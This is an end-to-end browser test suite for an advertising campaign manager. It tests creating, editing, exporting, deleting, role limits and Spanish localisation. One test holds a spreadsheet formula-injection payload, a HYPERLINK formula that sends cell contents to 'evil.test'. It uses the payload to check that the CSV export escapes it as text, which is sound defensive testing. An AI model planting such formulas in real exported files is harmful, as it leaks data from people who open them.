import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { inDays, type Lang, pickDate, searchAndChoose } from './support/forms.ts';
import { openJourney } from './support/journey.ts';
import { apiAs } from './support/plans.ts';
import { startServer } from './support/server.ts';
import { newPage, screenshot, signIn } from './support/session.ts';

const { server, browser } = await openJourney(startServer(400));

interface CampaignInput {
  brand: string;
  name: string;
  budget: string;
  mediaType: RegExp;
}

async function fillCampaignForm(page: Page, input: CampaignInput, lang: Lang): Promise<void> {
  const dialog = page.getByRole('dialog');
  await dialog.getByLabel(lang === 'es' ? /^Marca/ : /^Brand/).fill(input.brand);
  await dialog.getByLabel(lang === 'es' ? /^Nombre de campaña/ : /^Campaign Name/).fill(input.name);
  await pickDate(page, 'start-date', inDays(3), lang);
  await pickDate(page, 'end-date', inDays(40), lang);
  await page.getByTestId('budget').fill(input.budget);
  await page.getByTestId('media-type').click();
  await page.getByRole('option', { name: input.mediaType }).click();
  await searchAndChoose(page, 'states', 'Metropolitana', /Metropolitana/);
  await searchAndChoose(page, 'cities', 'Providencia', /^Providencia$/);
}

async function gridHasText(page: Page, text: string): Promise<boolean> {
  return page.locator('.ag-body').getByText(text, { exact: true }).isVisible();
}

describe('campaigns', () => {
  it('the planner creates, finds, edits, exports and deletes a campaign', async () => {
    const page = await newPage(browser, server.url);
    await signIn(page, 'planner@plano.test');
    await expect.poll(() => page.getByTestId('campaign-grid-pending').isVisible()).toBe(true);
    await expect.poll(() => page.getByTestId('tab-awaiting').innerText()).toMatch(/Planned/);
    await screenshot(page, 'campaigns-list-en');

    // An empty form answers every rule of SPEC §5 under its field.
    await page.getByTestId('create-campaign').click();
    await page.getByTestId('create-campaign-submit').click();
    for (const message of [
      'Brand is Required',
      'Campaign Name is Required',
      'Start Date is not Valid Date',
      'End Date is not Valid Date',
      'Budget is Required',
      'Media Type is Required',
      'States is Required',
      'Cities is Required',
    ]) {
      await expect.poll(() => page.getByText(message, { exact: true }).isVisible(), { message }).toBe(true);
    }
    await screenshot(page, 'campaigns-create-errors-en');

    const name = `Verano Costero ${Date.now()}`;
    await fillCampaignForm(
      page,
      { brand: 'Helados Polar', name, budget: '45000000', mediaType: /^Traditional OOH$/ },
      'en',
    );
    await expect.poll(() => page.getByTestId('budget-compact').innerText()).toBe('45M');
    await expect.poll(() => page.getByText('CLP 45,000,000').isVisible()).toBe(true);
    expect(await page.getByText('Brand is Required').count()).toBe(0);
    await screenshot(page, 'campaigns-create-filled-en');

    // Slow the call down enough to see the button say it is working.
    await page.route('**/api/create_campaign', async (route) => {
      await new Promise((resolve) => setTimeout(resolve, 600));
      await route.continue();
    });
    await page.getByTestId('create-campaign-submit').click();
    await expect.poll(() => page.getByTestId('create-campaign-submit').innerText()).toBe('Creating...');
    await page.waitForURL(/\/admin\/sugg_inventory\/[0-9a-f-]{36}$/);
    const campId = page.url().split('/').pop();

    // The top bar's search lands on the list with ?search= and the grid filtered.
    await page.goto(`/admin/campaigns?search=${encodeURIComponent(name)}`);
    await expect.poll(() => page.getByTestId('campaign-search').inputValue()).toBe(name);
    await expect.poll(() => gridHasText(page, name)).toBe(true);
    await expect.poll(() => page.locator('.ag-center-cols-container .ag-row').count()).toBe(1);
    await expect.poll(() => gridHasText(page, 'planner@plano.test')).toBe(true);
    await expect.poll(() => gridHasText(page, '45M')).toBe(true);
    expect(await page.getByTestId('add-to-plan').getAttribute('href')).toBe(
      `/admin/sugg_inventory/${campId}`,
    );

    // Edit: the same rules, then back to the list with the new values.
    await page.getByTestId('edit-plan').click();
    await page.waitForURL(`**/admin/edit_campaign/${campId}`);
    const brand = page.getByLabel(/^Brand/);
    await expect.poll(() => brand.inputValue()).toBe('Helados Polar');
    await brand.fill('   ');
    await page.getByTestId('save-campaign').click();
    await expect.poll(() => page.getByText('Brand is Required', { exact: true }).isVisible()).toBe(true);
    await screenshot(page, 'campaigns-edit-en');
    await brand.fill('Helados Polar Sur');
    const renamed = `${name} (editada)`;
    await page.getByLabel(/^Campaign Name/).fill(renamed);
    await page.getByTestId('budget').fill('60000000');
    await page.getByTestId('save-campaign').click();
    await page.waitForURL(/\/admin\/campaigns\?tab=pending$/);
    await expect.poll(() => page.getByText('Campaign updated').isVisible()).toBe(true);
    await page.getByTestId('campaign-search').fill(renamed);
    await expect.poll(() => page.locator('.ag-center-cols-container .ag-row').count()).toBe(1);
    await expect.poll(() => gridHasText(page, renamed)).toBe(true);
    await expect.poll(() => gridHasText(page, 'Helados Polar Sur')).toBe(true);
    await expect.poll(() => gridHasText(page, '60M')).toBe(true);

    // CSV of what the grid shows, with readable values.
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('export-csv').click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/^plano-campaigns-pending-\d{4}-\d{2}-\d{2}\.csv$/);
    const csv = await readFile((await download.path()) as string, 'utf8');
    const lines = csv.trim().split(/\r?\n/);
    expect(lines[0]).toBe('"Campaign Name","Brand","Created By","Budget","Start Date","End Date","States"');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`"${renamed}","Helados Polar Sur","planner@plano.test","60000000"`);
    expect(lines[1]).toContain('"Región Metropolitana de Santiago"');

    // Delete asks first; No keeps it, Yes removes it.
    expect(await page.getByTestId('delete-campaigns').count()).toBe(0);
    await page.locator('.ag-body .ag-row .ag-selection-checkbox input').first().click();
    await expect.poll(() => page.getByTestId('selected-count').innerText()).toBe('1 selected');
    await page.getByTestId('delete-campaigns').click();
    await expect
      .poll(() => page.getByTestId('delete-confirm-text').innerText())
      .toBe('Are you sure you want to delete these Campaigns');
    await screenshot(page, 'campaigns-delete-confirm-en');
    await page.getByTestId('delete-no').click();
    await expect.poll(() => page.getByTestId('delete-confirm-text').isVisible()).toBe(false);
    await expect.poll(() => gridHasText(page, renamed)).toBe(true);
    await page.getByTestId('delete-campaigns').click();
    await page.getByTestId('delete-yes').click();
    await expect.poll(() => page.getByText('1 campaign deleted').isVisible()).toBe(true);
    await expect.poll(() => gridHasText(page, renamed)).toBe(false);
    await page.goto(`/admin/edit_campaign/${campId}`);
    await expect.poll(() => page.getByTestId('campaign-not-found').isVisible()).toBe(true);
    await screenshot(page, 'campaigns-not-found-en');

    // Planned and Booked carry the plan link and the budget bar.
    await page.goto('/admin/campaigns?tab=booked');
    await expect.poll(() => page.getByTestId('campaign-grid-booked').isVisible()).toBe(true);
    expect(await page.getByTestId('see-plan').first().getAttribute('href')).toMatch(
      /^\/admin\/booked_inventory\/[0-9a-f-]{36}$/,
    );
    await expect.poll(() => page.locator('.ag-row .mantine-Progress-root').count()).toBeGreaterThan(0);
    await screenshot(page, 'campaigns-booked-en');

    // The top bar's search opens the tab where the campaign is, also once the lists are loaded (the
    // tab was once decided on the search box's previous value, and stayed on Pending).
    await page.goto('/admin/index');
    await expect.poll(() => page.getByTestId('campaign-grid-pending').isVisible()).toBe(true);
    await expect.poll(() => page.getByTestId('tab-booked').innerText()).toMatch(/\d/);
    await page.getByLabel('Search campaigns', { exact: true }).fill('Sabores del Sur');
    await page.keyboard.press('Enter');
    // The tab changes in place (no page load): watch the address rather than wait for a navigation.
    await expect
      .poll(() => page.url(), { timeout: 30_000 })
      .toMatch(/\/admin\/campaigns\?tab=booked&search=Sabores/);
    // The grid renders its pinned and centre parts separately: wait for the row in both.
    await expect.poll(() => gridHasText(page, 'Sabores del Sur')).toBe(true);
    await expect.poll(() => page.locator('.ag-center-cols-container .ag-row').count()).toBe(1);
    await expect.poll(() => page.getByTestId('tab-pending').innerText()).toMatch(/0/);
    await page.context().close();
  });

  it('exports a formula-like campaign name as text, not as a formula (issue 23)', async () => {
    const formula = '=HYPERLINK("http://evil.test/?d="&B2,"Open")';
    const brand = `@Polar ${Date.now()}`;
    const day = (n: number) => new Date(Date.now() + n * 86_400_000).toISOString().slice(0, 10);
    await apiAs(server, 'planner@plano.test', '/create_campaign', {
      brand,
      campaign_name: formula,
      start_date: day(3),
      end_date: day(40),
      budget: 45_000_000,
      states: ['Región Metropolitana de Santiago'],
      cities: ['All'],
      media_type: 'all',
    });
    const page = await newPage(browser, server.url);
    await signIn(page, 'planner@plano.test');
    await page.goto(`/admin/campaigns?search=${encodeURIComponent(brand)}`);
    await expect.poll(() => page.locator('.ag-center-cols-container .ag-row').count()).toBe(1);
    // The grid shows the name as typed; only the file guards it.
    await expect.poll(() => gridHasText(page, formula)).toBe(true);
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('export-csv').click(),
    ]);
    const lines = (await readFile((await download.path()) as string, 'utf8')).trim().split(/\r?\n/);
    expect(lines).toHaveLength(2);
    // OWASP's rule: a leading ' makes the cell text, and the cell is quoted (its quotes doubled).
    expect(lines[1]).toMatch(
      /^"'=HYPERLINK\(""http:\/\/evil\.test\/\?d=""&B2,""Open""\)","'@Polar \d+","planner@plano\.test","45000000",/,
    );
    await page.context().close();
  });

  it('the viewer sees no Create or Delete', async () => {
    const page = await newPage(browser, server.url);
    await signIn(page, 'viewer@plano.test');
    await expect
      .poll(
        async () =>
          (await page.getByTestId('campaigns-empty').count()) + (await page.locator('.ag-root').count()),
      )
      .toBeGreaterThan(0);
    expect(await page.getByTestId('create-campaign').count()).toBe(0);
    expect(await page.getByTestId('export-csv').count()).toBe(0);
    const boxes = page.locator('.ag-body .ag-selection-checkbox input');
    if ((await boxes.count()) > 0) {
      await boxes.first().click();
      await expect.poll(() => page.getByTestId('selected-count').isVisible()).toBe(true);
    }
    expect(await page.getByTestId('delete-campaigns').count()).toBe(0);
    expect(await page.getByTestId('edit-plan').count()).toBe(0);
    await screenshot(page, 'campaigns-list-viewer');
    await page.context().close();
  });

  it('a new agency sees none of the demo campaigns, only empty tabs', async () => {
    const page = await newPage(browser, server.url);
    await page.goto('/auth/register');
    await page.getByLabel(/^name/i).fill('Marta Vidal');
    await page.getByLabel(/company/i).fill('Austral Medios');
    await page.getByLabel(/email/i).fill('marta@austral.test');
    await page.getByLabel(/password/i).fill('a-good-password');
    await page.getByRole('button', { name: /create account/i }).click();
    await page.waitForURL('**/admin/index');
    await expect.poll(() => page.getByTestId('campaigns-empty').isVisible()).toBe(true);
    await screenshot(page, 'campaigns-empty-en');
    for (const tab of ['awaiting', 'booked']) {
      await page.getByTestId(`tab-${tab}`).click();
      await expect.poll(() => page.getByTestId('campaigns-empty').isVisible()).toBe(true);
      expect(await page.getByTestId(`tab-${tab}`).innerText()).toMatch(/0/);
    }
    await page.context().close();
  });

  it('works in Spanish: tabs, messages and creation', async () => {
    const page = await newPage(browser, server.url, 'es');
    await signIn(page, 'planner@plano.test');
    await expect.poll(() => page.getByTestId('tab-pending').innerText()).toMatch(/Pendientes/);
    expect(await page.getByTestId('tab-awaiting').innerText()).toMatch(/Planificadas/);
    expect(await page.getByTestId('tab-booked').innerText()).toMatch(/Reservadas/);
    await expect.poll(() => page.getByTestId('campaign-grid-pending').isVisible()).toBe(true);
    await expect
      .poll(() => page.locator('.ag-header-cell-text', { hasText: 'Nombre de campaña' }).count())
      .toBe(1);
    await screenshot(page, 'campaigns-list-es');

    await page.getByRole('button', { name: 'Crear campaña' }).first().click();
    await page.getByTestId('create-campaign-submit').click();
    for (const message of [
      'Marca es un campo obligatorio',
      'Nombre de campaña es un campo obligatorio',
      'Fecha de inicio no es una fecha válida',
      'Presupuesto es un campo obligatorio',
      'Tipo de medio es un campo obligatorio',
      'Regiones es un campo obligatorio',
      'Comunas es un campo obligatorio',
    ]) {
      await expect.poll(() => page.getByText(message, { exact: true }).isVisible(), { message }).toBe(true);
    }
    await screenshot(page, 'campaigns-create-errors-es');

    const name = `Otoño Andino ${Date.now()}`;
    await fillCampaignForm(
      page,
      { brand: 'Té del Sur', name, budget: '1500000', mediaType: /^OOH digital$/ },
      'es',
    );
    await expect.poll(() => page.getByTestId('budget-compact').innerText()).toBe('1.5M');
    await expect.poll(() => page.getByText('$1.500.000').isVisible()).toBe(true);
    await screenshot(page, 'campaigns-create-filled-es');
    await page.getByTestId('create-campaign-submit').click();
    await page.waitForURL(/\/admin\/sugg_inventory\/[0-9a-f-]{36}$/);
    const campId = page.url().split('/').pop();

    await page.goto(`/admin/edit_campaign/${campId}`);
    await expect.poll(() => page.getByLabel(/^Nombre de campaña/).inputValue()).toBe(name);
    await page.getByLabel(/^Nombre de campaña/).fill('');
    await page.getByTestId('save-campaign').click();
    await expect
      .poll(() => page.getByText('Nombre de campaña es un campo obligatorio').isVisible())
      .toBe(true);
    await screenshot(page, 'campaigns-edit-es');
    await page.context().close();
  });
});
